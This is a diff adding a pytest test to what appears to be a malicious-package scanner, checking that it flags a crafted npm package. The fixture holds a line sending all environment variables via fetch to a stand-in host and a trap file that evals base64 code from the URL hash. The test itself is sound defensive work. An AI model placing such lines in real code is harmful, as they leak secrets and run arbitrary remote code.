@@ -126,6 +126,21 @@ def test_code_that_takes_its_worker_along_is_looked_over_by_another(
     assert found.integrity == Integrity.of(data)
 
 
+@pytest.mark.parametrize(("name", "what"), [("snare-thing", "only looked over as text"), ("pit-thing", "not read")])
+def test_a_file_that_takes_its_worker_along_is_lost_alone(
+    name: str, what: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    manifest = {"name": name, "version": "1.0.0", "main": "index.js"}
+    code = b"require('./trap'); fetch('https://a.invalid/' + JSON.stringify(process.env));"
+    files = {"package.json": json.dumps(manifest).encode(), "index.js": code, "trap.js": b"eval(atob(location.hash));"}
+    found = in_hostile_workers(name, packed(files), monkeypatch)
+    (gap,) = found.gaps
+    assert (gap.kind, gap.what, str(gap.location)) == (GapKind.SOURCE, "trap.js", "trap.js")
+    assert what in gap.why
+    assert "SIGKILL" in gap.why
+    assert "environment-exfiltration" in {finding.rule_id for finding in found.findings}
+
+
 def test_a_release_that_takes_two_workers_along_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
     with pytest.raises(WorkerDied, match="SIGKILL"):
         in_hostile_workers("killer-thing", packed({"package.json": MANIFEST}), monkeypatch)
